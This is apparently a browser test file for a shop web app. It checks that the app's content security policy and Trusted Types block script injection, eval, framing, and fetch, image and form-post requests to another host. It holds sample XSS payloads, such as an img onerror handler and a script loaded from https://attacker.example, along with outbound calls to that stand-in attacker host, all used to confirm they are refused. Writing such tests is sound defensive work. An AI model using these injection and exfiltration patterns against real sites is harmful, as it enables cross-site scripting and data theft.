/** The policy of the page as the browser keeps it: no view offends against it, and what is injected does not run. */
import assert from 'node:assert/strict';
import { before, type TestContext, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { skipWithoutBrowser, startBrowser } from '../helpers/browser.ts';
import { closeAfter, openPage } from '../helpers/page.ts';
import { NOT_FOUND_NOTICE, type ShopService, startShopService } from './every-view.ts';

const skip = skipWithoutBrowser();

let browser: Browser;
let shop: ShopService;
if (skip === false) {
  before(async (t) => {
    browser = await startBrowser(t as TestContext);
    shop = await startShopService(t as TestContext);
  });
}

async function open(t: TestContext) {
  const opened = await openPage(browser, shop.base);
  closeAfter(t, opened);
  return opened;
}

test('no view offends against the policy, asks another host, leaves an error or keeps a cookie', {
  skip,
}, async (t) => {
  const { page, go, problems, foreign } = await open(t);
  for (const address of shop.addresses) {
    await go(address);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.waitForLoadState('networkidle');
    assert.equal(await page.getByRole('heading', { level: 1 }).count(), 1, address);
    await openAll(page);
    await page.waitForLoadState('networkidle');
  }

  assert.deepEqual([problems.filter((problem) => !NOT_FOUND_NOTICE.test(problem)), foreign], [[], []]);
  assert.deepEqual(await page.context().cookies(), []);
});

/** Opens everything that is shown on demand, also what only then appears. */
async function openAll(page: Page): Promise<void> {
  for (let opened = 0; opened < 50; opened++) {
    const summary = page.locator('main details:not([open]) > summary').first();
    if (!(await summary.isVisible())) return;
    await summary.click();
  }
}

/** Each of them is a way in which markup or a script comes into a page; run in the page, it says what came of it. */
const ATTACKS: readonly (readonly [name: string, attack: () => unknown])[] = [
  ['markup', () => (document.body.innerHTML = '<img src=x onerror="globalThis.ran = 1">')],
  ['markup that is added', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')],
  ['a script that is written', () => document.write('<script>globalThis.ran = 1</script>')],
  [
    'a script element',
    () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.ran = 1';
      document.body.append(script);
    },
  ],
  [
    'a script of another host',
    () => {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/a.js';
      document.body.append(script);
    },
  ],
  ['a document that is parsed', () => new DOMParser().parseFromString('<b>x</b>', 'text/html')],
];

test('neither markup nor a script can be made of a text', { skip }, async (t) => {
  const { page } = await open(t);
  await page.getByRole('heading', { level: 1 }).waitFor();

  for (const [name, attack] of ATTACKS) {
    await assert.rejects(page.evaluate(attack), /TrustedHTML|TrustedScript|Trusted Type|requires/, name);
  }

  assert.equal(await page.evaluate(() => 'ran' in globalThis), false);
});

/** What a view could do only against the policy: the directives that each refuse one thing. */
const REFUSED = ['connect-src', 'img-src', 'style-src-attr', 'form-action'];

test('text is not evaluated, and nothing is sent to another host', { skip }, async (t) => {
  const { page, foreign } = await open(t);
  await page.getByRole('heading', { level: 1 }).waitFor();

  const outcomes = await page.evaluate(async (wanted) => {
    const blocked: string[] = [];
    const allBlocked = new Promise<void>((resolve) => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        blocked.push(effectiveDirective);
        if (wanted.every((directive) => blocked.includes(directive))) resolve();
      });
      // Else the assertion says which one is missing.
      setTimeout(resolve, 20_000);
    });
    const evaluated = await new Promise((resolve) => {
      // Later, because what a debugger runs itself may evaluate.
      setTimeout(() => {
        try {
          resolve(Reflect.construct(Function, ['return 1 + 1'])());
        } catch {
          resolve('refused');
        }
      });
    });
    const fetched = await fetch('https://attacker.example/').catch(() => 'refused');
    const image = new Image();
    image.src = 'https://attacker.example/p.png';
    document.body.setAttribute('style', 'color: red');
    const form = document.createElement('form');
    form.action = 'https://attacker.example/';
    form.method = 'post';
    document.body.append(form);
    form.submit();
    await allBlocked;
    return { evaluated, fetched, blocked };
  }, REFUSED);

  assert.deepEqual([outcomes.evaluated, outcomes.fetched], ['refused', 'refused']);
  for (const directive of REFUSED) {
    assert.ok(outcomes.blocked.includes(directive), `${directive} of ${outcomes.blocked}`);
  }
  assert.deepEqual(
    foreign.filter((url) => !url.startsWith('https://attacker.example/')),
    [],
  );
  assert.ok(page.url().startsWith(shop.base));
});

test('no other page can show this one in a frame', { skip }, async (t) => {
  const { page } = await open(t);

  const shown = await page.evaluate(async (address) => {
    const frame = document.createElement('iframe');
    frame.src = address;
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
    document.body.append(frame);
    await loaded;
    return (frame.contentDocument?.getElementById('page') ?? null) !== null;
  }, `${shop.base}/ui/`);

  assert.equal(shown, false);
});
